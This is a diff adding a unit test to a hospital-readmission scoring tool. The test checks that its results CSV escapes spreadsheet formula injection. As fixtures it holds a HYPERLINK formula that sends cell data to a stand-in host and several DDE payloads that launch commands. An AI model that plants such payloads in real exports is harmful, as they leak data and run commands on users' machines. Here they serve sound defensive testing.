@@ -13,12 +13,14 @@ from readmit.schema import COLUMNS, INPUT_FIELDS, SOURCE_NAMES
 from readmit.services import free_port
 from readmit.ui.batch import (
     BatchFormatError,
+    BatchScores,
     PartialBatchError,
     chunks,
     convert,
     field_name,
     map_columns,
     parse_batch,
+    results_csv,
     results_frame,
     score,
 )
@@ -123,6 +125,40 @@ def test_chunked_scores_equal_one_direct_batch_call_with_per_record_errors(stack
     again = pd.read_csv(io.StringIO(frame.to_csv(index=False)), dtype=str,
                         keep_default_na=False)  # fmt: skip
     assert list(again["encounter_id"]) == list(sample["encounter_id"])
+
+
+def test_the_results_csv_carries_no_formula(sample):
+    """Cells a spreadsheet would run (=HYPERLINK, +, -, @, tab, CR) come back as text; numbers,
+    negative ones included, stay numbers."""
+    hostile = {
+        "payer_code": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+        "medical_specialty": "+cmd|' /C calc'!A0",
+        "diag_1": "-2+3+cmd|' /C calc'!A0",
+        "diag_2": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "diag_3": "\t=1+1",
+        "race": "\r=1+1",
+    }
+    frame = sample.head(3).copy()
+    for column, text in hostile.items():
+        frame.loc[0, column] = text
+    frame.loc[1, "num_lab_procedures"] = "-5"
+    frame["=HYPERLINK(1)"] = "x"
+    parsed = parse_batch(frame.to_csv(index=False, lineterminator="\r\n").encode())
+    scores = BatchScores(
+        results=[{"index": i, "probability": p, "readmitted_30d": p > 0.5, "error": None}
+                 for i, p in enumerate([0.25, 0.75, 0.5])],
+        threshold=0.5, model={"name": "readmission", "version": "1"},
+    )  # fmt: skip
+    written = results_csv(results_frame(parsed, scores))
+    again = pd.read_csv(io.BytesIO(written), dtype=str, keep_default_na=False)
+    for column, text in hostile.items():
+        assert again.loc[0, column] == "'" + text
+    assert again.loc[1, "num_lab_procedures"] == "-5"
+    assert again.loc[2, "num_lab_procedures"] == sample.loc[2, "num_lab_procedures"]
+    assert list(again["encounter_id"]) == list(sample["encounter_id"].head(3))
+    assert list(again["probability"]) == ["0.25", "0.75", "0.5"]
+    assert "'=HYPERLINK(1)" in again.columns
+    assert len(again) == 3
 
 
 def test_an_unreachable_api_stops_the_batch_with_what_was_done():
